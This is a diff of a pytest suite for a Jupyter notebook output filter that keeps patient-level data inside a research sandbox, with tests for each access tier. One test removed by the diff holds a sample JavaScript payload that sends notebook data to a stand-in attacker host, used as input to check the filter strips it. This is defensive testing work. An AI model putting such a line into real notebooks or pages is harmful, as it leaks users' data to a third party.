-    assert long_form.column("site").to_pylist()[:2] == ["beijing-tiantan", "beijing-tiantan"], "rowspan spreads"
-    assert long_form.column("n").to_pylist() == nested["n"].tolist()
-    [crosstab] = html_tables(wide._repr_html_())
-    assert crosstab.column_names == ["site", *wide.columns]
-    [numbers] = html_tables(signed.to_html())
-    assert numbers.column("delta").to_pylist() == [-1234, -56, 7]
-
-
-def test_the_fast_table_reader_agrees_with_the_full_parser(frame: pd.DataFrame) -> None:
-    from sandbox.notebooks.egress import _BETWEEN_TAGS, _regular_tables, _TableParser
-
-    layouts = [frame.head(30).to_html(), frame.groupby(["site", "sex"]).size().to_frame("n")._repr_html_(),
-               frame.groupby(["site", "stent_type"]).size().unstack()._repr_html_(),
-               frame.head(10).style.to_html(), "<table><tr><td>7<b></b>2</td><td>a &amp; b</td></tr></table>"]
-    for document in layouts:
-        fast = _regular_tables(document)
-        assert fast is not None, "pandas markup takes the fast path"
-        parser = _TableParser()
-        parser.feed(_BETWEEN_TAGS.sub("><", document))
-        parser.close()
-        def cells(tables: list[Any]) -> list[Any]:
-            return [[(head, [(c.header, " ".join("".join(c.text).split()), c.colspan, c.rowspan) for c in row])
-                     for head, row in rows] for rows in tables]
-        assert cells(fast) == cells(parser.tables)
-    assert _regular_tables("<table><tr><td><table><tr><td>1</td></tr></table></td></tr></table>") is None
-
-
-# -- aggregate: figures, mime types, buffers -------------------------------------------------------------------------
-
-
-def test_a_figure_is_held_and_replaced_by_a_notice(aggregate: MessageFilter) -> None:
+def test_a_figure_is_held_and_its_bytes_never_sent(aggregate: MessageFilter) -> None:
     png = b"\x89PNG\r\n\x1a\n" + bytes(range(64))
-    content = {"data": {"image/png": base64.b64encode(png).decode(), "text/plain": "<Figure size 640x480>"},
+    content = {"data": {"image/png": base64.b64encode(png).decode(), "text/plain": "<Figure P0001234>"},
                "metadata": {"image/png": {"width": 640}}}
     outcome = aggregate.outgoing("iopub", message("display_data", content))
     assert outcome.action == "replace" and outcome.rules == ("notebook-figure",)
     assert [(held.mime, held.data, held.rules) for held in outcome.held] == [("image/png", png, ("notebook-figure",))]
     assert outcome.held[0].name.startswith("cell-0f1e2d3c-") and outcome.held[0].name.endswith(".png")
-    assert outcome.message is not None
-    data = outcome.message["content"]["data"]
-    assert "image/png" not in data and "figure held for review: notebook-figure" in data["text/plain"]
-    assert "image/png" not in outcome.message["content"]["metadata"]
+    assert outcome.message is not None and "P0001234" not in json.dumps(outcome.message, default=str)
+    assert list(outcome.message["content"]["data"]) == ["text/plain"]
 
 
-def test_an_svg_figure_is_held_as_text(aggregate: MessageFilter) -> None:
-    svg = "<svg xmlns='http://www.w3.org/2000/svg'><text>72</text></svg>"
-    outcome = aggregate.outgoing("iopub", message("display_data", {"data": {"image/svg+xml": svg}, "metadata": {}}))
-    assert outcome.held[0].data == svg.encode() and outcome.held[0].name.endswith(".svg")
-    assert outcome.message is not None and "image/svg+xml" not in outcome.message["content"]["data"]
+def test_stored_outputs_keep_only_what_the_platform_signed(aggregate: MessageFilter) -> None:
+    data = {"text/plain": "sex  count"}
+    signed = {"output_type": "display_data", "data": data, "metadata": aggregate.signature(data)}
+    assert aggregate.stored_output(signed) is None
+    forged = {**signed, "data": {"text/plain": "P0001234"}}
+    unsigned = {"output_type": "execute_result", "data": {"text/html": "P0001234"}, "metadata": {},
+                "execution_count": 1}
+    for output in (forged, unsigned, {"output_type": "stream", "name": "stdout", "text": "P0001234"},
+                   {"output_type": "error", "ename": "P0001234", "evalue": "P0001234", "traceback": ["P0001234"]}):
+        replaced = aggregate.stored_output(output)
+        assert replaced is not None and "P0001234" not in json.dumps(replaced), output
 
 
-def test_javascript_and_unknown_mime_types_are_removed(aggregate: MessageFilter) -> None:
-    content = {"data": {"application/javascript": "fetch('https://evil.example/?'+data)",
-                        "application/vnd.plotly.v1+json": {"data": []}, "text/plain": "a plot"}, "metadata": {}}
-    outcome = aggregate.outgoing("iopub", message("display_data", content))
-    assert outcome.action == "replace" and outcome.rules == ("notebook-mime",)
-    assert outcome.message is not None and outcome.message["content"]["data"] == {"text/plain": "a plot"}
-    alone = aggregate.outgoing("iopub", message("display_data", {"data": {"text/javascript": "x"}, "metadata": {}}))
-    assert alone.message is not None and "notebook-mime" in alone.message["content"]["data"]["text/plain"]
-
-
-def test_widget_views_show_only_when_comms_are_allowed(policy: dict[str, Any], fingerprints: FingerprintIndex) -> None:
-    view = {"data": {"application/vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2},
-                     "text/plain": "IntSlider()"}, "metadata": {}}
-    closed = make_filter(policy, "aggregate", index=fingerprints).outgoing("iopub", message("display_data", view))
-    assert closed.action == "replace" and "notebook-mime" in closed.rules
-    opened = make_filter(policy, "aggregate", index=fingerprints, allow_comms=True)
-    assert opened.outgoing("iopub", message("display_data", view)).action == "pass"
-
-
-def test_binary_buffers_are_dropped_unless_comms_are_allowed(aggregate: MessageFilter) -> None:
-    msg = message("display_data", {"data": {"text/plain": "x"}, "metadata": {}}, buffers=[b"\x00\x01"])
-    outcome = aggregate.outgoing("iopub", msg)
-    assert outcome.action == "replace" and "notebook-buffers" in outcome.rules
-    assert outcome.message is not None and outcome.message["buffers"] == []
+def test_notices_about_a_spec_quote_only_platform_words() -> None:
+    vocabulary = frozenset({"the", "dataset", "has", "no", "column", "unknown", "fields", "in", "specification",
+                            "sex", "index", "takes", "1", "to", "4", "columns", "not"})
+    assert safe_message("the dataset has no column 'P0001234'", vocabulary) == "the dataset has no column ..."
+    many = "unknown fields in the specification: " + ", ".join(f"P{i:07d}" for i in range(500))
+    assert safe_message(many, vocabulary) == "unknown fields in the specification: ..."
+    assert safe_message("index takes 1 to 4 columns, not 31337", vocabulary) == "index takes 1 to 4 columns, not ..."
 
 
 # -- comms and the debugger ------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("tier", ["dp_only", "aggregate", "trusted"])
-def test_comms_are_dropped_and_refused_unless_allowed(policy: dict[str, Any], fingerprints: FingerprintIndex,
-                                                      tier: str) -> None:
+@pytest.mark.parametrize("tier", ["dp_only", "trusted"])
+def test_comms_are_dropped_and_refused_unless_allowed(policy: dict[str, Any], tier: str) -> None:
     comm = message("comm_msg", {"comm_id": "c1", "data": {"value": 3}})
-    closed = make_filter(policy, tier, index=fingerprints)
+    closed = make_filter(policy, tier)
     outcome = closed.outgoing("iopub", comm)
     assert outcome.action == "drop" and outcome.rules == ("notebook-comms",)
     assert outcome.audit is not None and outcome.audit["action"] == "drop"
     for msg_type in ("comm_open", "comm_msg", "comm_close"):
         assert closed.incoming("shell", msg_type) is not None
-    opened = make_filter(policy, tier, index=fingerprints, allow_comms=True)
+    opened = make_filter(policy, tier, allow_comms=True)
     assert opened.outgoing("iopub", comm).action == "pass"
     assert opened.incoming("shell", "comm_msg") is None
 
 
-def test_comm_messages_with_rows_are_dropped_even_when_comms_are_allowed(policy: dict[str, Any],
-                                                                         fingerprints: FingerprintIndex,
-                                                                         rows: pd.DataFrame) -> None:
-    opened = make_filter(policy, "aggregate", index=fingerprints, allow_comms=True)
-    outcome = opened.outgoing("iopub", message("comm_msg", {"comm_id": "c1", "data": {"rows": _dump(rows)}}))
-    assert outcome.action == "drop" and "leak-scan" in outcome.rules
+def test_comms_stay_closed_in_the_aggregate_tier_even_when_the_policy_allows_them(policy: dict[str, Any]) -> None:
+    opened = asked(make_filter(policy, "aggregate", allow_comms=True))
+    outcome = opened.outgoing("iopub", message("comm_msg", {"comm_id": "c1", "data": {"rows": "P0001234"}}))
+    assert outcome.action == "drop" and "notebook-comms" in outcome.rules
+    assert opened.incoming("shell", "comm_open") is not None
+    view = {"data": {"application/vnd.jupyter.widget-view+json": {"model_id": "P0001234"}}, "metadata": {}}
+    shown = opened.outgoing("iopub", message("display_data", view))
+    assert "P0001234" not in json.dumps(shown.message, default=str)
 
 
 @pytest.mark.parametrize(("tier", "allowed"), [("dp_only", False), ("aggregate", False), ("trusted", True)])
-def test_the_debugger_is_for_trusted_sessions_only(policy: dict[str, Any], fingerprints: FingerprintIndex,
-                                                  tier: str, allowed: bool) -> None:
-    session = make_filter(policy, tier, index=fingerprints)
+def test_the_debugger_is_for_trusted_sessions_only(policy: dict[str, Any], tier: str, allowed: bool) -> None:
+    session = make_filter(policy, tier)
     refusal = session.incoming("control", "debug_request")
     assert (refusal is None) is allowed, refusal
     event = session.outgoing("iopub", message("debug_event", {"event": "stopped", "body": {}}))
@@ -458,16 +425,15 @@ def test_incoming_allows_known_requests_only(aggregate: MessageFilter) -> None:
     assert aggregate.incoming("iopub", "execute_request") is not None
 
 
-# -- every tier: size; dp_only and trusted: pass and audit ------------------------------------------------------------
+# -- dp_only and trusted: free output, size limit, audited ------------------------------------------------------------
 
 
-@pytest.mark.parametrize("tier", ["dp_only", "aggregate", "trusted"])
-def test_outputs_over_the_size_limit_are_replaced_on_every_tier(policy: dict[str, Any],
-                                                                fingerprints: FingerprintIndex, tier: str) -> None:
-    session = make_filter(policy, tier, index=fingerprints, max_output_kb=1)
+@pytest.mark.parametrize("tier", ["dp_only", "trusted"])
+def test_outputs_over_the_size_limit_are_replaced(policy: dict[str, Any], tier: str) -> None:
+    session = make_filter(policy, tier, max_output_kb=1)
     outcome = session.outgoing("iopub", message("stream", {"name": "stdout", "text": "hello world\n" * 100}))
     assert outcome.action == "replace" and outcome.rules == ("notebook-output-size",)
-    assert "notebook-output-size" in notice_of(outcome)
+    assert outcome.message is not None and "notebook-output-size" in outcome.message["content"]["text"]
     small = session.outgoing("iopub", message("stream", {"name": "stdout", "text": "hello\n"}))
     assert small.action == "pass"
 
@@ -475,17 +441,19 @@ def test_outputs_over_the_size_limit_are_replaced_on_every_tier(policy: dict[str
 @pytest.mark.parametrize("tier", ["dp_only", "trusted"])
 def test_dp_only_and_trusted_pass_outputs_and_audit_them(policy: dict[str, Any], rows: pd.DataFrame,
                                                          tier: str) -> None:
-    session = make_filter(policy, tier, index=None)
-    content = {"name": "stdout", "text": _dump(rows)}
+    session = make_filter(policy, tier)
+    content = {"name": "stdout", "text": rows.to_string()}
     outcome = session.outgoing("iopub", message("stream", content))
     assert outcome.action == "pass" and outcome.message is None and outcome.rules == ()
     canonical = json.dumps(content, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
     assert outcome.audit == {"msg_type": "stream", "channel": "iopub", "sha256": hashlib.sha256(canonical).hexdigest(),
                              "size": len(canonical), "cell": CELL, "action": "pass", "rules": []}
-    assert_nothing_leaves(outcome, rows)
+    assert not [pid for pid in rows["patient_id"] if pid in json.dumps(outcome.audit)], "the audit holds no values"
     assert session.outgoing("shell", message("kernel_info_reply", {"status": "ok"})).audit is None
     assert session.outgoing("shell", message("execute_reply", {"status": "ok", "execution_count": 1,
                                                                 "user_expressions": {}, "payload": []})).audit is None
+    table = {"data": {"text/html": "<table><tr><td>3</td></tr></table>", "text/plain": "3"}, "metadata": {}}
+    assert session.outgoing("iopub", message("display_data", table)).action == "pass", "free output, as before"
 
 
 # -- policy ----------------------------------------------------------------------------------------------------------
@@ -494,7 +462,7 @@ def test_dp_only_and_trusted_pass_outputs_and_audit_them(policy: dict[str, Any],
 def test_rules_come_from_the_policy(policy: dict[str, Any]) -> None:
     rules = NotebookRules.from_policy(policy, "aggregate")
     assert (rules.allow_comms, rules.max_output_bytes) == (False, 256 * 1024)
-    assert (rules.block_rows, rules.block_ids) == (1, 1) and rules.sdc["min_cell_count"] == 10
+    assert rules.sdc["min_cell_count"] == 10
     bare = {key: value for key, value in policy.items() if key != "notebooks"}
     assert NotebookRules.from_policy(bare, "trusted").max_output_bytes == 256 * 1024
     with pytest.raises(ValueError, match="tier"):
@@ -504,20 +472,11 @@ def test_rules_come_from_the_policy(policy: dict[str, Any]) -> None:
 # -- cost ------------------------------------------------------------------------------------------------------------
 
 
-def test_a_clean_ten_kilobyte_output_costs_well_under_two_milliseconds(aggregate: MessageFilter) -> None:
+def test_a_ten_kilobyte_output_costs_well_under_two_milliseconds(aggregate: MessageFilter) -> None:
     msg = message("stream", {"name": "stdout", "text": "epoch 3: loss 0.4172, mean age 67.31\n" * 270})
-    assert aggregate.outgoing("iopub", msg).action == "pass"
     timings = []
     for _ in range(30):
         start = time.perf_counter()
         aggregate.outgoing("iopub", msg)
         timings.append(time.perf_counter() - start)
     assert statistics.median(timings) < 0.002, f"median {statistics.median(timings) * 1000:.2f} ms"
-
-
-def test_a_withheld_display_update_keeps_its_display_id(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
-    content = {"data": {"text/plain": _dump(rows)}, "metadata": {}, "transient": {"display_id": "progress-1"}}
-    outcome = aggregate.outgoing("iopub", message("update_display_data", content))
-    assert outcome.action == "replace" and "leak-scan" in outcome.rules
-    assert outcome.message is not None and outcome.message["content"]["transient"] == {"display_id": "progress-1"}
-    assert_nothing_leaves(outcome, rows)
